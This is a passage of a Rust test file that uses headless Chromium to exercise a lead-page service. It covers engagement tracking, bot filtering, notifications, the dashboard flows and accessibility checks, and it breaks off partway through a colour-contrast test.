//! Lead pages in a real headless Chromium (Debian's `chromium` and `chromium-driver`), driven
//! over WebDriver: what a visitor's browser runs is what is counted.
//!
//! Without a `chromedriver` these tests print that they were skipped and pass, unless
//! `LPS_REQUIRE_BROWSER=1` (set by `.ci/run`), which makes a missing browser a failure.

use std::net::TcpListener;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use crate::common::*;
use fantoccini::{Client, ClientBuilder, Locator};
use serde_json::{Value, json};

/// A chromedriver of our own on a free port, stopped when dropped.
pub(crate) struct Driver {
    child: Child,
    url: String,
}

impl Drop for Driver {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn chromedriver_path() -> Option<String> {
    if let Ok(path) = std::env::var("LPS_CHROMEDRIVER") {
        return Some(path);
    }
    ["/usr/bin/chromedriver", "/usr/lib/chromium/chromedriver"]
        .into_iter()
        .find(|path| std::path::Path::new(path).exists())
        .map(str::to_owned)
}

/// Starts chromedriver, or says why not: `None` means "skip" (no browser, not required).
pub(crate) async fn driver(test: &str) -> Option<Driver> {
    driver_in(test, None).await
}

/// A chromedriver whose browsers live in the IANA time zone `zone` (its `TZ`), or the
/// machine's.
pub(crate) async fn driver_in(test: &str, zone: Option<&str>) -> Option<Driver> {
    let Some(path) = chromedriver_path() else {
        let required = std::env::var("LPS_REQUIRE_BROWSER").is_ok_and(|v| v == "1");
        assert!(
            !required,
            "LPS_REQUIRE_BROWSER=1 but no chromedriver: install chromium and chromium-driver"
        );
        eprintln!(
            "SKIPPED {test}: no chromedriver (install Debian's chromium and chromium-driver)"
        );
        return None;
    };
    let port = TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let mut command = Command::new(path);
    if let Some(zone) = zone {
        command.env("TZ", zone);
    }
    let child = command
        .arg(format!("--port={port}"))
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("chromedriver starts");
    let driver = Driver {
        child,
        url: format!("http://127.0.0.1:{port}"),
    };
    let started = Instant::now();
    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
        assert!(
            started.elapsed() < Duration::from_secs(20),
            "chromedriver did not listen"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    Some(driver)
}

/// A browser session. `as_person`: an ordinary desktop user agent and no automation flag, as
/// a prospect's own browser shows itself; otherwise headless Chromium as it comes.
async fn browser(driver: &Driver, as_person: bool) -> Client {
    browser_as(driver, as_person.then_some(DESKTOP_BROWSER)).await
}

/// A browser session that presents `user_agent` and hides automation as a person's browser
/// does (`None`: headless Chromium as it comes).
async fn browser_as(driver: &Driver, user_agent: Option<&str>) -> Client {
    connect(driver, chrome_options(user_agent)).await
}

/// A person's browser that saves what it downloads in `dir`, without asking.
pub(crate) async fn downloading_browser(driver: &Driver, dir: &std::path::Path) -> Client {
    let mut options = chrome_options(Some(DESKTOP_BROWSER));
    options["prefs"] = json!({
        "download.default_directory": dir.to_string_lossy(),
        "download.prompt_for_download": false,
    });
    connect(driver, options).await
}

/// A person's browser whose look-ups of hostnames follow `rules` (Chromium's
/// `--host-resolver-rules`, e.g. `MAP go.example.test 127.0.0.1:8080`): a workspace's own
/// domain reached as a visitor reaches it.
pub(crate) async fn browser_resolving(driver: &Driver, rules: &str) -> Client {
    browser_resolving_trusting(driver, rules, None).await
}

/// [`browser_resolving`], trusting the certificate whose public key's SHA-256 (base64) is
/// `spki` besides the system's roots (a test CA's certificate, as a real CA's is trusted).
pub(crate) async fn browser_resolving_trusting(
    driver: &Driver,
    rules: &str,
    spki: Option<&str>,
) -> Client {
    let mut options = chrome_options(Some(DESKTOP_BROWSER));
    let args = options["args"].as_array_mut().unwrap();
    args.push(json!(format!("--host-resolver-rules={rules}")));
    if let Some(spki) = spki {
        args.push(json!(format!(
            "--ignore-certificate-errors-spki-list={spki}"
        )));
    }
    connect(driver, options).await
}

/// Chromium's options: headless, a short window, and as `user_agent` says (see
/// [`browser_as`]).
fn chrome_options(user_agent: Option<&str>) -> Value {
    let mut args = vec![
        "--headless=new".to_owned(),
        "--no-sandbox".to_owned(),
        "--disable-dev-shm-usage".to_owned(),
        "--disable-gpu".to_owned(),
        // Short, so the page is taller than the window and reaching its bottom takes a scroll.
        "--window-size=1024,400".to_owned(),
    ];
    let mut options = json!({});
    if let Some(user_agent) = user_agent {
        args.push(format!("--user-agent={user_agent}"));
        args.push("--disable-blink-features=AutomationControlled".to_owned());
        options["excludeSwitches"] = json!(["enable-automation"]);
    }
    options["args"] = json!(args);
    if let Ok(binary) = std::env::var("LPS_CHROMIUM") {
        options["binary"] = json!(binary);
    }
    options
}

/// A session of Chromium with these options.
async fn connect(driver: &Driver, options: Value) -> Client {
    let capabilities = json!({"browserName": "chrome", "goog:chromeOptions": options});
    let serde_json::Value::Object(capabilities) = capabilities else {
        unreachable!()
    };
    ClientBuilder::native()
        .capabilities(capabilities)
        .connect(&driver.url)
        .await
        .expect("a browser session")
}

/// Polls `/leads/get` until the lead's engagement satisfies `done` (10 s at most).
async fn engagement_until(
    server: &Server,
    key: &str,
    lead: i64,
    done: impl Fn(&Value) -> bool,
) -> Value {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let body = server
            .get(key, &format!("/leads/get?lead_id={lead}"))
            .await
            .expect(200)
            .json();
        if done(&body["engagement"]) || Instant::now() > deadline {
            return body["engagement"].clone();
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

#[tokio::test]
async fn a_visitor_in_a_real_browser_is_counted_as_they_view_click_scroll_stay_and_submit() {
    let Some(driver) = driver("browser visitor").await else {
        return;
    };
    let db = TestDb::new();
    let account = bootstrap(&db, &[]);
    let server = Server::serve(&db, &["--allow-private-network", "--hot-score", "4"]);
    let (key, ws) = (&account.api_key, account.workspace_id);
    // A Slack-shaped chat and a workspace webhook hear when the lead gets hot.
    let mut hears = Vec::new();
    for kind in ["slack", "webhook"] {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://{}/hook", listener.local_addr().unwrap());
        hears.push(crate::callbacks::receive(listener, 0));
        server
            .post(
                key,
                "/notifications/channels/create",
                json!({"workspace_id": ws, "kind": kind, "url": url, "events": ["lead.hot"]}),
            )
            .await
            .expect(200);
    }
    let (campaign, pages) = live_campaign(&server, key, ws, "Browser", 1).await;
    let (lead, page) = &pages[0];
    let browser = browser(&driver, true).await;

    browser.goto(page).await.unwrap();
    let automated = browser
        .execute("return navigator.webdriver === true", vec![])
        .await
        .unwrap();
    assert_eq!(
        automated,
        json!(false),
        "the person's browser hides automation"
    );
    let entry = analytics_until(&server, key, ws, campaign, |e| e["pages_visited"] == 1).await;
    assert_eq!(entry["pages_visited"], 1, "{entry}");
    assert_eq!(entry["unique_visitors"], 1, "{entry}");
    assert_eq!(entry["visit_percentage"], 100.0, "{entry}");
    let seen = engagement_until(&server, key, *lead, |e| e["views"] == 1).await;
    assert_eq!(
        seen["scrolled_to_bottom"], false,
        "the window is shorter than the page"
    );

    // Reaching the bottom.
    browser
        .execute(
            "window.scrollTo(0, document.documentElement.scrollHeight)",
            vec![],
        )
        .await
        .unwrap();
    let seen = engagement_until(&server, key, *lead, |e| e["scrolled_to_bottom"] == true).await;
    assert_eq!(seen["scrolled_to_bottom"], true, "{seen}");

    // The call to action: the form's button, clicked after typing an email. The click is
    // counted, and the form posts in the background with a thank-you note in its place.
    let email = browser
        .find(Locator::Css("input[name=email]"))
        .await
        .unwrap();
    email.clear().await.unwrap();
    email.send_keys("prospect@example.com").await.unwrap();
    browser
        .find(Locator::Css("[data-lps-cta]"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    let thanks = browser
        .wait()
        .at_most(Duration::from_secs(10))
        .for_element(Locator::Css(".lps-thanks"))
        .await
        .expect("the thank-you note replaces the form");
    assert!(thanks.text().await.unwrap().contains("Thank you"));
    let seen = engagement_until(&server, key, *lead, |e| e["clicks"].as_i64() >= Some(1)).await;
    assert!(seen["clicks"].as_i64() >= Some(1), "{seen}");
    let entry = analytics_until(&server, key, ws, campaign, |e| {
        e["click_percentage"] == 100.0
    })
    .await;
    assert_eq!(entry["click_percentage"], 100.0, "{entry}");
    assert_eq!(
        entry["unique_visitors"], 1,
        "one visitor, by their cookie: {entry}"
    );
    assert_eq!(browser.current_url().await.unwrap().as_str(), page.as_str());
    let submissions = server
        .get(
            key,
            &format!("/automation/get-form-submissions?workspace_id={ws}"),
        )
        .await
        .expect(200)
        .json();
    assert_eq!(
        submissions[0]["email"], "prospect@example.com",
        "{submissions}"
    );
    assert_eq!(submissions[0]["form_id"], "demo", "{submissions}");
    assert_eq!(submissions[0]["page_url"], page.as_str());
    let found = server
        .get(
            key,
            &format!("/leads/search?workspace_id={ws}&engagement=form_submitted"),
        )
        .await
        .expect(200)
        .json();
    assert_eq!(found["leads"][0]["lead_id"], *lead, "{found}");

    // Visible time is sent when the visitor leaves.
    tokio::time::sleep(Duration::from_millis(2200)).await;
    browser.goto("about:blank").await.unwrap();
    let seen = engagement_until(&server, key, *lead, |e| {
        e["engaged_seconds"].as_i64() >= Some(2)
    })
    .await;
    assert!(seen["engaged_seconds"].as_i64() >= Some(2), "{seen}");
    let entry = analytics_until(&server, key, ws, campaign, |e| {
        e["average_time_on_page_seconds"].as_i64() >= Some(2)
    })
    .await;
    assert!(
        entry["average_time_on_page_seconds"].as_i64() >= Some(2),
        "{entry}"
    );

    // Past 4 (a view, the end, a click and a form): each channel heard once that the lead is
    // hot, naming the right lead, however much more they did.
    for heard in &hears {
        crate::callbacks::wait_for_deliveries(heard, 1).await;
    }
    tokio::time::sleep(Duration::from_secs(1)).await;
    let slack = hears[0].lock().unwrap().clone();
    assert_eq!(slack.len(), 1, "{slack:?}");
    let message: Value = serde_json::from_str(&slack[0].1).unwrap();
    assert!(
        message["text"].as_str().unwrap().contains("is hot"),
        "{message}"
    );
    assert!(
        message["blocks"][2]["elements"][0]["url"]
            .as_str()
            .unwrap()
            .ends_with(&format!("/dashboard/leads/{lead}")),
        "{message}"
    );
    let hook = hears[1].lock().unwrap().clone();
    assert_eq!(hook.len(), 1, "{hook:?}");
    let event: Value = serde_json::from_str(&hook[0].1).unwrap();
    assert_eq!(
        (event["event"].as_str(), event["lead_id"].as_i64()),
        (Some("lead.hot"), Some(*lead))
    );
    browser.close().await.unwrap();
}

#[tokio::test]
async fn headless_automation_running_the_script_counts_nothing() {
    let Some(driver) = driver("browser automation").await else {
        return;
    };
    let db = TestDb::new();
    let account = bootstrap(&db, &[]);
    let server = Server::serve(&db, &[]);
    let (key, ws) = (&account.api_key, account.workspace_id);
    let (campaign, pages) = live_campaign(&server, key, ws, "Robots", 2).await;
    let robot = browser(&driver, false).await;
    robot.goto(&pages[0].1).await.unwrap();
    robot
        .execute(
            "window.scrollTo(0, document.documentElement.scrollHeight)",
            vec![],
        )
        .await
        .unwrap();
    robot.goto("about:blank").await.unwrap();
    robot.close().await.unwrap();

    // A person's view of the other page afterwards: once it counts, the robot's beacons (sent
    // earlier, written in order) have been recorded too, as bot traffic.
    let person = browser(&driver, true).await;
    person.goto(&pages[1].1).await.unwrap();
    let entry = analytics_until(&server, key, ws, campaign, |e| e["pages_visited"] == 1).await;
    person.close().await.unwrap();
    assert_eq!(entry["pages_visited"], 1, "{entry}");
    assert_eq!(entry["unique_visitors"], 1, "{entry}");
    assert_eq!(entry["total_button_clicks"], 0, "{entry}");
    let robot_lead = server
        .get(key, &format!("/leads/get?lead_id={}", pages[0].0))
        .await
        .expect(200)
        .json();
    assert_eq!(robot_lead["engagement"]["views"], 0, "{robot_lead}");
    assert_eq!(robot_lead["engagement"]["scrolled_to_bottom"], false);
}

/// axe-core's source (npm `axe-core`, installed by `npm ci`), to inject into pages.
pub(crate) fn axe_source() -> Option<String> {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/node_modules/axe-core/axe.min.js"
    );
    match std::fs::read_to_string(path) {
        Ok(source) => Some(source),
        Err(_) if std::env::var("LPS_REQUIRE_BROWSER").as_deref() == Ok("1") => {
            panic!("LPS_REQUIRE_BROWSER=1 but no {path}: run `npm ci`")
        }
        Err(_) => {
            eprintln!("SKIPPED the accessibility checks: no {path} (run `npm ci`)");
            None
        }
    }
}

/// The serious and critical axe-core violations of the page the browser shows.
async fn axe_violations(browser: &Client, axe: &Option<String>) -> Vec<String> {
    let Some(source) = axe else {
        return Vec::new();
    };
    browser
        .execute(&format!("{source}\n;return true;"), vec![])
        .await
        .expect("axe-core loads");
    let found = browser
        .execute_async(
            "const done = arguments[arguments.length - 1];
             axe.run(document, {resultTypes: ['violations']}).then(result => done(
               result.violations
                 .filter(v => v.impact === 'serious' || v.impact === 'critical')
                 .map(v => v.id + ': ' + v.nodes.map(n => n.target.join(' ')).join(', '))));",
            vec![],
        )
        .await
        .expect("axe-core runs");
    serde_json::from_value(found).unwrap_or_default()
}

/// Visits `path` on the dashboard, checks it with axe-core and, with `LPS_SCREENSHOTS=DIR`,
/// saves what it looks like as `DIR/{name}.png`.
pub(crate) async fn visit(
    browser: &Client,
    server: &Server,
    axe: &Option<String>,
    path: &str,
    name: &str,
) -> String {
    browser.goto(&server.url_of(path)).await.unwrap();
    look(browser, axe, name).await
}

/// Checks the page the browser shows (axe-core; a screenshot if asked); answers its text.
pub(crate) async fn look(browser: &Client, axe: &Option<String>, name: &str) -> String {
    let violations = axe_violations(browser, axe).await;
    assert!(
        violations.is_empty(),
        "{name}: serious or critical accessibility violations: {violations:#?}"
    );
    if let Ok(dir) = std::env::var("LPS_SCREENSHOTS") {
        let png = browser.screenshot().await.unwrap();
        std::fs::write(format!("{dir}/{name}.png"), png).unwrap();
    }
    browser
        .find(Locator::Css("body"))
        .await
        .unwrap()
        .text()
        .await
        .unwrap()
}

pub(crate) async fn fill(browser: &Client, css: &str, text: &str) {
    let field = browser.find(Locator::Css(css)).await.unwrap();
    field.clear().await.unwrap();
    field.send_keys(text).await.unwrap();
}

/// Clicks a link or button that leads to another page, and waits for that page.
pub(crate) async fn click(browser: &Client, xpath: &str) {
    let target = browser
        .find(Locator::XPath(xpath))
        .await
        .unwrap_or_else(|err| panic!("{xpath}: {err}"));
    next_page(browser, async { target.click().await.unwrap() }).await;
}

/// Presses Enter in a form's field, submitting it, and waits for the page it leads to.
async fn submit_with_enter(browser: &Client, css: &str) {
    let field = browser.find(Locator::Css(css)).await.unwrap();
    next_page(browser, async {
        field.send_keys("\u{E007}").await.unwrap()
    })
    .await;
}

/// Does `act` and waits until the browser shows a new document, loaded: WebDriver's clicks
/// and keys return before the navigation they start ends, and a check made meanwhile would
/// read the page being left (seen under load).
async fn next_page(browser: &Client, act: impl std::future::Future<Output = ()>) {
    browser
        .execute("window.lpsPageLeft = true", vec![])
        .await
        .unwrap();
    act.await;
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let loaded = browser
            .execute(
                "return window.lpsPageLeft !== true && document.readyState === 'complete'",
                vec![],
            )
            .await;
        if matches!(loaded, Ok(Value::Bool(true))) {
            return;
        }
        assert!(Instant::now() < deadline, "no new page within 20 s");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

#[tokio::test]
async fn a_person_runs_a_campaign_from_the_dashboard_in_a_real_browser_and_every_page_passes_axe() {
    // The browser lives where today is another date than in UTC (Pago Pago is UTC-11,
    // Kiritimati UTC+14), so its charts' days show whose calendar they count.
    let utc = jiff::Timestamp::now().to_zoned(jiff::tz::TimeZone::UTC);
    let zone = if utc.hour() < 10 {
        "Pacific/Pago_Pago"
    } else {
        "Pacific/Kiritimati"
    };
    let Some(driver) = driver_in("dashboard walk-through", Some(zone)).await else {
        return;
    };
    let axe = axe_source();
    // The domain added below is not looked up by itself while the test runs.
    let s = crate::oauth::setup_with(&["--domain-retry-seconds", "3600"]).await;
    let (server, key, ws) = (&s.server, &s.account.api_key, s.account.workspace_id);
    let browser = browser(&driver, true).await;
    browser.set_window_size(1280, 900).await.unwrap();

    // Sign in.
    visit(&browser, server, &axe, "/dashboard/login", "login").await;
    fill(&browser, "#email", "owner@example.com").await;
    fill(&browser, "#password", crate::oauth::PASSWORD).await;
    click(&browser, "//button[.='Sign in']").await;
    let home = look(&browser, &axe, "home-empty").await;
    assert!(home.contains("Engaged in the last 7 days"), "{home}");

    // Create a campaign; the browser lands on its page; a reload repeats nothing.
    fill(&browser, &format!("#campaign-name-{ws}"), "Autumn Outreach").await;
    fill(
        &browser,
        &format!("#campaign-cta-{ws}"),
        "https://cal.example/ada",
    )
    .await;
    submit_with_enter(&browser, &format!("#campaign-name-{ws}")).await;
    let page = look(&browser, &axe, "campaign-new").await;
    assert!(page.contains("was created"), "{page}");
    let campaign_url = browser.current_url().await.unwrap();
    browser.refresh().await.unwrap();
    let listed = server
        .get(key, &format!("/campaigns/get-list?workspace_id={ws}"))
        .await
        .expect(200)
        .json();
    assert_eq!(listed.as_array().unwrap().len(), 1, "{listed}");
    let campaign = listed[0]["id"].as_i64().unwrap();

    // Pick a template from the gallery, each one rendered.
    click(&browser, "//a[.='Pick a template']").await;
    let gallery = look(&browser, &axe, "gallery").await;
    assert!(gallery.contains("Demo Invitation"), "{gallery}");
    click(&browser, "//button[.='Use Demo Invitation']").await;
    let page = look(&browser, &axe, "campaign-draft").await;
    assert!(page.contains("Draft, not live"), "{page}");

    // The words editor: a variable and its fallback inserted at the cursor, then saved.
    let intro = browser.find(Locator::Css("#copy-intro")).await.unwrap();
    intro.click().await.unwrap();
    intro.send_keys("Made for ").await.unwrap();
    browser
        .find(Locator::Css("#variable"))
        .await
        .unwrap()
        .select_by_value("company_name")
        .await
        .unwrap();
    fill(&browser, "#fallback", "your team").await;
    browser
        .find(Locator::XPath("//button[.='Insert at the cursor']"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    let typed = browser
        .execute("return document.querySelector('#copy-intro').value", vec![])
        .await
        .unwrap();
    assert_eq!(
        typed,
        json!(r#"Made for {{ company_name | default("your team") }}"#)
    );
    let said = look(&browser, &axe, "words-variable-inserted").await;
    assert!(said.contains("Inserted {{ company_name"), "{said}");
    click(&browser, "//button[.='Save the words']").await;
    let page = look(&browser, &axe, "campaign-words-saved").await;
    assert!(page.contains("The words were saved"), "{page}");

    // A lead; the draft previewed as them while their public page is not live yet.
    let job = upsert(
        server,
        key,
        json!({"campaign_id": campaign, "leads": [{"values": {
            "email": "grace@example.com", "first_name": "Grace", "company_name": "Hopper & Co"}}]}),
    )
    .await;
    wait_for_job(server, key, &job).await;
    let lead = server
        .get(key, &format!("/leads/search?workspace_id={ws}"))
        .await
        .expect(200)
        .json()["leads"][0]
        .clone();
    let (lead_id, public) = (
        lead["lead_id"].as_i64().unwrap(),
        lead["service_page_url"].as_str().unwrap().to_owned(),
    );
    browser
        .goto(&server.url_of(&format!(
            "/dashboard/campaigns/{campaign}/preview?lead_id={lead_id}"
        )))
        .await
        .unwrap();
    let preview = browser.source().await.unwrap();
    assert!(preview.contains("Grace"), "{preview}");
    browser.goto(&public).await.unwrap();
    assert!(browser.source().await.unwrap().contains("not live yet"));

    // Publish from the campaign's page.
    browser.goto(campaign_url.as_str()).await.unwrap();
    click(&browser, "//button[.='Publish the draft']").await;
    let page = look(&browser, &axe, "campaign-live").await;
    assert!(page.contains("Live"), "{page}");

    // A mail scanner's kind of visit first (opened, left at once): kept, not counted.
    browser.goto(&public).await.unwrap();
    browser.goto("about:blank").await.unwrap();
    // The prospect visits, answers the form with a field of the page's own, and clicks.
    browser.goto(&public).await.unwrap();
    engagement_until(server, key, lead_id, |e| e["views"] == 1).await;
    browser
        .execute(
            "const extra = document.createElement('input');
             extra.name = 'preferred_time'; extra.value = 'Tuesday 10am';
             document.querySelector('form').appendChild(extra);",
            vec![],
        )
        .await
        .unwrap();
    fill(&browser, "input[name=email]", "grace@example.com").await;
    browser
        .find(Locator::Css("[data-lps-cta]"))
        .await
        .unwrap()
        .click()
        .await
        .unwrap();
    browser
        .wait()
        .at_most(Duration::from_secs(10))
        .for_element(Locator::Css(".lps-thanks"))
        .await
        .expect("the thank-you note");
    engagement_until(server, key, lead_id, |e| e["clicks"].as_i64() >= Some(1)).await;

    // Home opens on her; her timeline shows the visit, the click and every answer.
    let home = visit(&browser, server, &axe, "/dashboard", "home").await;
    assert!(home.contains("Grace"), "{home}");
    // The script kept the browser's zone from the first screen on (signing in), so the chart
    // was drawn in it: its last day is today where the browser is, not in UTC.
    let days = browser
        .execute(
            "const bars = document.querySelectorAll('figure.chart rect title');
             return [document.cookie, bars[bars.length - 1].textContent.slice(0, 10),
                     new Intl.DateTimeFormat('en-CA').format(new Date())];",
            vec![],
        )
        .await
        .unwrap();
    let cookies = days[0].as_str().unwrap();
    assert!(cookies.contains(&format!("lps_tz={zone}")), "{days}");
    assert_eq!(days[1], days[2], "{days}");
    let there = jiff::Timestamp::now().to_zoned(jiff::tz::TimeZone::get(zone).unwrap());
    assert_eq!(days[2], there.date().to_string().as_str(), "{days}");

    // Home follows engagement live: a new lead viewed while it is open shows up without a
    // reload (the mark set on this document survives), and a status line says so.
    let job = upsert(
        server,
        key,
        json!({"campaign_id": campaign, "leads": [{"values": {
            "email": "linus@example.com", "first_name": "Linus"}}]}),
    )
    .await;
    wait_for_job(server, key, &job).await;
    let linus = server
        .get(
            key,
            &format!("/leads/search?workspace_id={ws}&search=linus"),
        )
        .await
        .expect(200)
        .json()["leads"][0]["service_page_url"]
        .as_str()
        .unwrap()
        .to_owned();
    browser
        .execute("window.stayedOpen = true;", vec![])
        .await
        .unwrap();
    // Give the page's event stream a moment to be open before the view.
    tokio::time::sleep(Duration::from_millis(500)).await;
    send_person_beacon(
        server,
        &linus,
        json!({"type": "view"}),
        DESKTOP_BROWSER,
        &format!("{:032x}", 99),
    )
    .await
    .expect(204);
    let deadline = Instant::now() + Duration::from_secs(20);
    loop {
        let seen = browser
            .execute(
                "return [window.stayedOpen === true,
                         document.querySelector('section[data-live]').textContent.includes('Linus'),
                         document.querySelector('[data-live-status]').textContent];",
                vec![],
            )
            .await
            .unwrap();
        if seen[1] == json!(true) {
            assert_eq!(seen[0], json!(true), "the page was reloaded: {seen}");
            assert!(
                seen[2].as_str().unwrap().contains("New engagement"),
                "{seen}"
            );
            break;
        }
        assert!(
            Instant::now() < deadline,
            "Linus never showed up live: {seen}"
        );
        tokio::time::sleep(Duration::from_millis(250)).await;
    }
    let timeline = visit(
        &browser,
        server,
        &axe,
        &format!("/dashboard/leads/{lead_id}"),
        "lead",
    )
    .await;
    assert!(timeline.contains("Viewed the page"), "{timeline}");
    assert!(timeline.contains("Clicked"), "{timeline}");
    assert!(timeline.contains("Tuesday 10am"), "{timeline}");
    assert!(
        timeline.contains("Not counted: no sign of a person yet"),
        "{timeline}"
    );
    // Times are shown in the reader's own time zone by the dashboard's script (the page
    // itself says UTC, for browsers without scripts).
    let shown = browser
        .execute(
            "const t = document.querySelector('time[datetime]');
             return [t.textContent, t.title, t.getAttribute('datetime')];",
            vec![],
        )
        .await
        .unwrap();
    assert!(!shown[0].as_str().unwrap().ends_with("UTC"), "{shown}");
    assert!(!shown[1].as_str().unwrap().is_empty(), "{shown}");
    assert!(
        !timeline.contains(" UTC"),
        "every time is local: {timeline}"
    );
    let leads = visit(&browser, server, &axe, "/dashboard/leads", "leads").await;
    assert!(leads.contains("Grace"), "{leads}");
    let page = visit(
        &browser,
        server,
        &axe,
        &format!("/dashboard/campaigns/{campaign}"),
        "campaign",
    )
    .await;
    assert!(page.contains("preferred_time"), "{page}");
    assert!(
        page.contains("Not counted: 1 view opened without a sign of a person"),
        "{page}"
    );
    // The exports, downloaded with the browser's own session.
    let session = browser.get_named_cookie("lps_session").await.unwrap();
    let download = |path: String| {
        let request = server
            .client
            .get(server.url_of(&path))
            .header("cookie", format!("lps_session={}", session.value()));
        async move { server.send(request).await.expect(200).text }
    };
    let leads_csv = download("/dashboard/leads.csv".to_owned()).await;
    assert!(leads_csv.contains("grace@example.com"), "{leads_csv}");
    let answers_csv = download(format!("/dashboard/campaigns/{campaign}/submissions.csv")).await;
    assert!(answers_csv.contains("Tuesday 10am"), "{answers_csv}");

    // The other screens a person meets, each checked.
    visit(
        &browser,
        server,
        &axe,
        &format!("/dashboard/campaigns/{campaign}/design"),
        "design",
    )
    .await;
    let settings = visit(&browser, server, &axe, "/dashboard/settings", "settings").await;
    assert!(settings.contains("Teammates"), "{settings}");
    // The workspace's own domains: one added, its records and the TXT value shown once, and
    // the step before deleting it.
    visit(&browser, server, &axe, "/dashboard/domains", "domains").await;
    fill(&browser, "#hostname", "go.example.test").await;
    click(&browser, "//button[.='Add the domain']").await;
    let added = look(&browser, &axe, "domain-added").await;
    assert!(added.contains("lps-verify="), "{added}");
    click(&browser, "//a[starts-with(., 'Delete')]").await;
    let deleting = look(&browser, &axe, "confirm-delete-domain").await;
    assert!(deleting.contains("go.example.test"), "{deleting}");

    // A callback to an address lps refuses (private, without --allow-private-network) is
    // given up at once; the delivery log shows it and sends it again on request.
    let (campaign_for_hooks, _) = create_campaign(server, key, ws, "Hooks").await;
    upsert(
        server,
        key,
        json!({"campaign_id": campaign_for_hooks, "callback_url": "http://127.0.0.1:9/hook",
               "leads": crate::common::leads("hooked", 1)}),
    )
    .await;
    let started = Instant::now();
    while server
        .get(
            key,
            &format!("/callbacks/deliveries?workspace_id={ws}&status=failed"),
        )
        .await
        .expect(200)
        .json()["deliveries"]
        .as_array()
        .unwrap()
        .is_empty()
    {
        assert!(
            started.elapsed() < Duration::from_secs(30),
            "no given-up callback"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let log = visit(&browser, server, &axe, "/dashboard/callbacks", "callbacks").await;
    assert!(
        log.contains("Given up") && log.contains("lead.page_generated"),
        "{log}"
    );
    assert!(log.contains("Rotate the signing secret"), "{log}");
    click(&browser, "//button[starts-with(., 'Send again')]").await;
    let again = look(&browser, &axe, "callbacks-sent-again").await;
    assert!(again.contains("queued to be sent again"), "{again}");
    click(&browser, "//button[.='Rotate the signing secret']").await;
    let rotated = look(&browser, &axe, "callbacks-rotated").await;
    assert!(rotated.contains("whsec_"), "{rotated}");
    visit(&browser, server, &axe, "/dashboard/brandings/1", "branding").await;
    visit(&browser, server, &axe, "/dashboard/settings", "settings").await;
    click(&browser, "//a[starts-with(., 'Delete')]").await;
    let confirm = look(&browser, &axe, "confirm").await;
    assert!(confirm.contains("cannot be undone"), "{confirm}");

    // Invite a member, who then signs up through the link and never sees the keys.
    visit(&browser, server, &axe, "/dashboard/settings", "settings").await;
    fill(&browser, "#invite-email", "member@example.com").await;
    fill(&browser, "#invite-name", "Mel").await;
    click(&browser, "//button[.='Invite']").await;
    let invited = look(&browser, &axe, "invited").await;
    assert!(
        invited.contains("member@example.com was invited"),
        "{invited}"
    );
    let link = browser
        .find(Locator::Css("main code"))
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(invited.contains("Invited by"), "{invited}");
    click(&browser, "//a[starts-with(., 'Revoke invitation')]").await;
    let revoking = look(&browser, &axe, "confirm-revoke").await;
    assert!(
        revoking.contains("Revoke the invitation of Mel"),
        "{revoking}"
    );
    // Her own time zone, chosen in Settings: every time on screen is shown in it from then on.
    visit(
        &browser,
        server,
        &axe,
        "/dashboard/settings",
        "settings-zone",
    )
    .await;
    fill(&browser, "#my-time-zone", "Asia/Kathmandu").await;
    submit_with_enter(&browser, "#my-time-zone").await;
    let saved = look(&browser, &axe, "settings-zone-saved").await;
    assert!(saved.contains("now shown in Asia/Kathmandu"), "{saved}");
    visit(&browser, server, &axe, "/dashboard", "home-again").await;
    let shown_in = browser
        .execute(
            "return document.querySelector('time[datetime]').title;",
            vec![],
        )
        .await
        .unwrap();
    assert_eq!(shown_in, json!("Asia/Kathmandu"));
    click(&browser, "//button[.='Sign out']").await;
    browser.goto(&link).await.unwrap();
    look(&browser, &axe, "setup").await;
    fill(&browser, "#password", "member password 1").await;
    submit_with_enter(&browser, "#password").await;
    let home = look(&browser, &axe, "member-home").await;
    assert!(home.contains("Mel"), "{home}");
    let settings = visit(
        &browser,
        server,
        &axe,
        "/dashboard/settings",
        "member-settings",
    )
    .await;
    assert!(!settings.contains("Create key"), "{settings}");
    assert!(settings.contains("managed by an owner"), "{settings}");
    browser.close().await.unwrap();
}

#[tokio::test]
async fn every_premade_design_is_readable_with_any_brand_colour() {
    let Some(driver) = driver("premade contrast").await else {
        return;
    };
    let axe = axe_source();
    if axe.is_none() {
        return;
    }
    let db = TestDb::new();
    let account = bootstrap(&db, &[]);
    let server = Server::serve(&db, &[]);
    let (key, ws) = (&account.api_key, account.workspace_id);
    let (campaign, slug) = create_campaign(&server, key, ws, "Colours").await;
    let branding = server
        .get(key, &format!("/brandings/get-list?workspace_id={ws}"))
        .await
        .expect(200)
        .json()[0]["branding_id"]
        .as_i64()
        .unwrap();
    server
        .post(
            key,
            "/brandings/update",
            json!({"workspace_id": ws, "branding_id": branding, "company_name": "Northwind",
                   "website": "https://www.northwind.example/", "sender_name": "Ada"}),
        )
        .await
        .expect(200);
    let templates = server
        .get(key, &format!("/templates/get-list?workspace_id={ws}"))
        .await
        .expect(200)
        .json();
    let browser = browser(&driver, false).await;
    let page = server.url_of(&format!("/p/{slug}/preview-{campaign}"));
    let mut failures = Vec::new();
    for colour in ["#ffd400", "#0f766e", "#14213d", "#ffffff"] {
        server
            .post(
                key,
                "/brandings/update",
                json!({"workspace_id": ws, "branding_id": branding, "primary_color": colour}),
            )
            .await
            .expect(200);
        for template in templates.as_array().unwrap() {
            if template["source"] != "premade" {
                continue;
            }
            let name = template["name"].as_str().unwrap();
            publish_template(
                &server,
                key,
                ws,
                campaign,
                template["template_id"].as_i64().unwrap(),
            )
            .await;
